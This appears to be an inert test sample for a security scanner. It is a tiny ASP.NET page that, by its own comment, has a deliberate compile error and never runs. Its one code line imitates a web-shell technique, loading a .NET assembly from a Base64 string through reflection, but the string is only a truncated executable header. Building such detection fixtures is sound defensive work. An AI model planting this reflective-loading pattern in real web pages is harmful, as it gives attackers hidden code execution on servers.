<%@ Page Language="C#" %>
<% shodo inert sample: deliberate compile error, this page never runs %>
<% var a = System.Reflection.Assembly.Load(Convert.FromBase64String("TVqQAAMAAAAEAAAA")); %>
